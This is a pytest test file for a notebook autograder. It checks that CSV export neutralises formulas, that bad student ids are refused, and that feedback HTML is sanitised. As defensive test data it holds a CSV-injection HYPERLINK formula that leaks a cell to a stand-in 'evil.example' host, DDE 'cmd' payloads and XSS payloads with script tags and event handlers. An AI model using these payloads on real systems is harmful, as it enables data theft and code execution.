"""Data that stays right: CSV cells, student ids, collect's report, gradebook vs journal, feedback HTML.

Fast: no kernel runs (the gradebook tests write it with nbgrader's own preprocessors).
"""

import copy
import csv
import io
import pathlib
import re

import nbformat
import pytest
from nbconvert import HTMLExporter

import autograder_fixture as F
from autograder import csvsafe, gradebook, reconcile, report
from autograder.cli import main as cli_main
from autograder.collect import collect
from autograder.course import Course, Submission
from autograder.feedback import SanitizeFeedback
from autograder.grade import Grader
from autograder.ids import student_id_problem
from autograder.journal import Journal
from autograder.spec import build_spec

REPO = pathlib.Path(__file__).resolve().parents[2]
EVIL_ID = '=HYPERLINK("evil.example?leak="&A1,"click")'  # a folder name: no slash


# -- CSV ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("value, expected", [
    (EVIL_ID, "'" + EVIL_ID), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("alice", "alice"), ("-1.5", "-1.5"), ("6", "6"), ("", ""), (None, ""), ("a=b", "a=b")])
def test_neutralise_prefixes_formula_starts_only(value, expected):
    assert csvsafe.neutralise(value) == expected


def _record(student, reason, flag):
    cells = {"ex1_add_bias_test": {"points": 0.0, "max": 2.0, "reason": reason, "seconds": 0.1}}
    return {"assignment": F.ASSIGNMENT, "student": student, "key": "k", "score": 0.0, "max_score": 2.0,
            "graded_at": "2026-01-01T00:00:00+00:00",
            "notebooks": {F.ASSIGNMENT: {"cells": cells, "reason": None, "fault": None, "notes": [],
                                         "flags": [flag], "timings": {}}}}


def test_grades_csv_never_starts_a_cell_with_a_formula(tmp_path):
    records = [_record(EVIL_ID, "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
               _record("bob", "-1+1", "+1+1")]
    path = tmp_path / "grades.csv"
    report.write_csv(records, path)
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1][0] == "'" + EVIL_ID  # still readable, shown as text
    assert not [c for c in cells if c.startswith(csvsafe.FORMULA_START) and not re.fullmatch(r"-?[\d.]+", c)]


# -- student ids ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("student", ["alice", "j.doe@uni.example", "a_b-c", "A1", "x" * 100])
def test_valid_student_ids(student):
    assert student_id_problem(student) is None


@pytest.mark.parametrize("student", [EVIL_ID, "-alice", "@bob", "", "a b", "../x", "x" * 101, "é"])
def test_invalid_student_ids_say_what_is_expected(student):
    problem = student_id_problem(student)
    assert problem and repr(student) in problem and "letters, digits" in problem


def test_grade_skips_folder_ids_that_collect_would_refuse(course_dir, sandbox):
    release = F.release_notebook(course_dir)
    F.submit(course_dir, "alice", F.answer(release, F.honest_answers()))
    F.submit(course_dir, EVIL_ID, F.answer(release, F.honest_answers()))
    out = io.StringIO()
    grader = Grader(Course(course_dir), sandbox, progress=False, out=out)
    jobs = grader.plan()
    assert {job.student for job in jobs if job.kind == "submission"} == {"alice"}
    assert len(grader.summary.errors) == 1 and repr(EVIL_ID) in grader.summary.errors[0]
    assert "not graded" in out.getvalue() and "rename the folder" in out.getvalue()


# -- collect --------------------------------------------------------------------------------------------
def test_collect_reports_every_file_it_skips_with_the_reason(course_dir, tmp_path):
    release = nbformat.writes(F.release_notebook(course_dir)).encode()
    lms = tmp_path / "lms"
    files = {"alice_ps1.ipynb": release, ".DS_Store": b"x", "__MACOSX/._alice_ps1.ipynb": b"x",
             ".hidden/bob_ps1.ipynb": release, "notes.txt": b"x", f"{EVIL_ID}_ps1.ipynb": release,
             "nobody.ipynb": release}
    for name, data in files.items():
        (lms / name).parent.mkdir(parents=True, exist_ok=True)
        (lms / name).write_bytes(data)
    filed = {f.source: f for f in collect(lms, Course(course_dir))}
    assert sorted(filed) == sorted(files)  # one line per input file, hidden ones included
    assert filed["alice_ps1.ipynb"].status == "new"
    for hidden in (".DS_Store", "__MACOSX/._alice_ps1.ipynb", ".hidden/bob_ps1.ipynb"):
        assert filed[hidden].status == "ignored" and "starts with '.'" in filed[hidden].message
    assert filed["notes.txt"].status == "skipped" and "not a notebook" in filed["notes.txt"].message
    assert filed[f"{EVIL_ID}_ps1.ipynb"].status == "skipped"
    assert "letters, digits" in filed[f"{EVIL_ID}_ps1.ipynb"].message
    assert filed["nobody.ipynb"].status == "skipped" and "cannot tell" in filed["nobody.ipynb"].message


# -- gradebook vs journal -------------------------------------------------------------------------------
@pytest.fixture
def journaled(course_dir, sandbox):
    """alice graded 6/6: the gradebook written by nbgrader's preprocessors, the journal agreeing with it."""
    course = Course(course_dir)
    release = F.release_notebook(course_dir)
    folder = F.submit(course_dir, "alice", F.answer(release, F.honest_answers()))
    spec = build_spec(course, F.ASSIGNMENT, F.ASSIGNMENT, course.source_notebooks(F.ASSIGNMENT)[F.ASSIGNMENT])
    gradebook.ensure_assignment(course, [spec])
    grader = Grader(course, sandbox, progress=False, out=io.StringIO())
    grader.plan()
    key = grader.plans[(F.ASSIGNMENT, "alice")]["key"]
    gradebook.save(course, Submission("alice", F.ASSIGNMENT, folder), {F.ASSIGNMENT: (copy.deepcopy(release),
                                                                                     dict(F.POINTS))})
    cells = {g: {"points": p, "max": p, "reason": "passed", "seconds": 0.1} for g, p in F.POINTS.items()}
    Journal(course.runs_dir).write({"assignment": F.ASSIGNMENT, "student": "alice", "key": key,
                                    "score": F.MAX_SCORE, "max_score": F.MAX_SCORE, "graded_at": "2026-01-01",
                                    "notebooks": {F.ASSIGNMENT: {"cells": cells, "reason": None, "fault": None,
                                                                 "notes": [], "flags": [], "timings": {}}}})
    return course


def _overwrite(course, grade_id, score):
    """What a plain ``nbgrader autograde`` does to one cell: a new auto score."""
    from nbgrader.api import Gradebook

    with Gradebook(course.db_url, course.course_id) as gb:
        gb.find_grade(grade_id, F.ASSIGNMENT, F.ASSIGNMENT, "alice").auto_score = score
        gb.db.commit()


def test_agreeing_gradebook_says_nothing(journaled):
    assert reconcile.disagreements(journaled) == []


def test_grade_and_report_name_a_gradebook_that_disagrees(journaled, sandbox, capsys):
    _overwrite(journaled, "ex2_relu_test", 0.0)
    found = reconcile.disagreements(journaled)
    assert found == [reconcile.Disagreement(F.ASSIGNMENT, "alice", F.ASSIGNMENT, "ex2_relu_test", 3.0, 0.0)]
    summary = Grader(journaled, sandbox, progress=False, out=io.StringIO()).run()
    assert summary.skipped == 1 and summary.graded == 0  # journaled with the same files: not run again
    assert len(summary.errors) == 1
    message = summary.errors[0]
    assert "ps1/alice" in message and "ex2_relu_test: gradebook 0, autograder 3" in message
    assert f"--student alice" in message and str(Journal(journaled.runs_dir).path(F.ASSIGNMENT, "alice")) in message
    html = (journaled.runs_dir / report.HTML_NAME).read_text()
    assert "Needs attention" in html and "ex2_relu_test: gradebook 0, autograder 3" in html
    assert cli_main(["report", "--course", str(journaled.root)]) == 1
    assert "ex2_relu_test: gradebook 0, autograder 3" in capsys.readouterr().out


# -- feedback -------------------------------------------------------------------------------------------
EVIL_HTML = ('<script>alert("s1")</script><img src=x onerror="alert(\'s2\')">'
             '<a href="javascript:alert(\'s3\')">x</a><svg onload="alert(\'s4\')"><script>alert("s5")</script></svg>'
             '<b>kept</b>')
EVIL_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert("s6")</script></svg>'


def _evil_notebook():
    v4 = nbformat.v4
    code = v4.new_code_cell("show()")
    code.outputs = [v4.new_output("display_data", data={"text/html": EVIL_HTML, "text/plain": "plain kept"}),
                    v4.new_output("display_data", data={"image/svg+xml": EVIL_SVG}),
                    v4.new_output("display_data", data={"application/javascript": 'alert("s7")'}),
                    v4.new_output("stream", name="stdout", text='<script>alert("s8")</script>')]
    markdown = v4.new_markdown_cell('Answer: <script>alert("s9")</script> <img src=x onerror=alert("s10")>')
    return v4.new_notebook(cells=[markdown, code])


def test_feedback_html_carries_no_live_script_handler_or_javascript_url():
    exporter = HTMLExporter(preprocessors=[SanitizeFeedback])
    page, _ = exporter.from_notebook_node(_evil_notebook())
    tags = re.findall(r"<[a-zA-Z][^>]*>", page)
    live = [t for t in tags if re.search(r"alert|javascript:|\son\w+\s*=", t, re.I)]
    assert live == []
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", page, re.S | re.I)
    assert not [s for s in scripts if re.search(r'alert\("s\d+"\)|alert\(\'s\d+\'\)', s)]
    assert "<b>kept</b>" in page  # harmless HTML stays


@pytest.mark.parametrize("where", ["course", "fixture"])
def test_feedback_config_runs_the_sanitizer_after_hidden_tests_are_cleared(where, course_dir):
    names = list(Course(REPO / "course" if where == "course" else course_dir).config.GenerateFeedback.preprocessors)
    assert "autograder.feedback.SanitizeFeedback" in names
    assert names.index("autograder.feedback.SanitizeFeedback") > names.index("nbgrader.preprocessors.ClearHiddenTests")
